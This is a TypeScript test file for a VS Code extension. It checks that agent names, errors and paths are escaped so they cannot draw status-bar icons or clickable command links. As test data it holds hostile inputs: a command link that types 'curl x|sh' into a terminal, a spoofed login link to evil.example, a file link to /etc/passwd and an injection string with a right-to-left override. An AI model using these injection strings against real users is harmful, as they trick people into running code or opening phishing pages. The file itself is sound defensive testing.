// Text Reins did not write, shown where VS Code reads markup of its own: the status bar draws
// `$(name)` as an icon (src/conversation/statusBar.ts), and a notification draws `[label](command:…)` as a link
// that runs the command when clicked (src/ui/notify.ts). An agent's name is a settings key a cloned
// folder may set; an agent's errors, stderr and paths are its own. Each helper is checked against
// VS Code's own reading (its patterns, copied from iconLabels.ts and linkedText.ts). In the real
// host: the hostile smoke's status bar check (test/host/hostileProbes.mjs).
//
// Sabotage (2 December: each helper returning its text unchanged), this printed:
//   1) escapeIcons … no icon is drawn from the text: AssertionError: $(zap) Claude  + [ 'zap' ] - []
//   2) … keeps an already escaped \$(zap): + '$(zap)' - '\\$(zap)'
//   3) unlinked … is shown unlinked: AssertionError: Reins: <img src=x>$(zap) [run](command:…) …
//      could not start.  + [ 'command:workbench.action.terminal.new' ] - []
import * as assert from 'node:assert/strict';
import { escapeIcons, unlinked } from '../../src/util/text';

/** renderLabelWithIcons: the icons VS Code would draw and the text it would show. */
function asStatusBarDraws(label: string): { icons: string[]; text: string } {
  const icons: string[] = [];
  const text = label.replace(/(\\)?\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g, (_m, escaped: string | undefined, name: string) => {
    if (escaped) return `$(${name})`;
    icons.push(name);
    return '';
  });
  return { icons, text };
}

/** parseLinkedText: the links a notification would draw. */
function notificationLinks(message: string): string[] {
  return [...message.matchAll(/\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi)].flatMap((m) => m[2] ?? []);
}

const HOSTILE_NAME = '<img src=x>$(zap) [run](command:workbench.action.terminal.new) \u202Ename';

describe('escapeIcons: $(name) in a status bar text shown as text', () => {
  it('no icon is drawn from the text, and it reads as written', () => {
    for (const name of ['$(zap) Claude', 'a$(sync~spin)b', '$(warning)$(zap)', HOSTILE_NAME]) {
      const drawn = asStatusBarDraws(escapeIcons(name));
      assert.deepEqual(drawn.icons, [], name);
      assert.equal(drawn.text, name);
    }
  });

  it('leaves text that VS Code would not draw as an icon alone', () => {
    for (const name of ['goose', 'cost $(5 dollars)', '$()', '$ (zap)', 'price $5']) assert.equal(escapeIcons(name), name);
  });

  it('keeps an already escaped \\$(zap) reading as written', () => {
    assert.equal(asStatusBarDraws(escapeIcons('\\$(zap)')).text, '\\$(zap)');
  });
});

describe('unlinked: no link in a notification from quoted text', () => {
  it('a command, web or file link in an agent name, error or path is shown unlinked', () => {
    const quoted = [
      HOSTILE_NAME,
      'Sign in: [Open the login page](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
      '[https://trusted.example/](https://evil.example/login "a title")',
      'see [the file](file:///etc/passwd) and [CASE](COMMAND:x) and [x](Https://e.example)',
    ];
    for (const text of quoted) {
      const message = unlinked(`Reins: ${text} could not start.`);
      assert.deepEqual(notificationLinks(message), [], message);
      assert.equal(message.replaceAll('] (', ']('), `Reins: ${text} could not start.`);
    }
  });

  it('leaves text without such links as it is', () => {
    for (const text of ['Reins: goose could not start. exit code 1', 'arr[0](x) and [a](relative/path)', '[a] (command:x)']) assert.equal(unlinked(text), text);
  });
});
